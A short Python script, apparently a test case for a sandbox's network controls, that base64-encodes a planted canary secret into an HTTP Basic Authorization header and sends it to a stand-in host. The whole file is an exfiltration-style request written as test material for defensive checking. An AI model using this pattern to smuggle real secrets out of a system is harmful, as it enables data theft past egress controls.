# Sends what is in a planted file as a password, and so in base64.
# network: held
import base64

from prelude import TOLD, canary, get, say

login = base64.b64encode(b"user:" + canary()).decode()
print(say(get(f"http://api.test:{TOLD['WEB']}/", f"Authorization: Basic {login}"))[:100])
print("tried")
